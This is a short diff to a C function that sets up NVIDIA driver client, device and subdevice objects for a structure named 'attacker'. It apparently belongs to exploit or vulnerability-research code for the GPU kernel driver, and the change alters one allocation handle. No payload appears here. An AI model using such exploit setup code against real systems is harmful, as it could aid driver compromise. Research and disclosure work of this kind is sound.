@@ -42,7 +42,7 @@ static void make_client(struct attacker *attacker, int fd, uint32_t client)
 {
 	uint8_t device[64] = { 0 }, subdevice[8] = { 0 };
 
-	alloc_plain(attacker, fd, (uint32_t[]){ 0, 0, client }, NV01_ROOT_CLIENT, NULL);
+	alloc_plain(attacker, fd, (uint32_t[]){ client, 0, client }, NV01_ROOT_CLIENT, NULL);
 	alloc_plain(attacker, fd, (uint32_t[]){ client, client, DEVICE }, NV01_DEVICE_0, device);
 	alloc_plain(attacker, fd, (uint32_t[]){ client, DEVICE, SUBDEVICE }, NV20_SUBDEVICE_0, subdevice);
 }
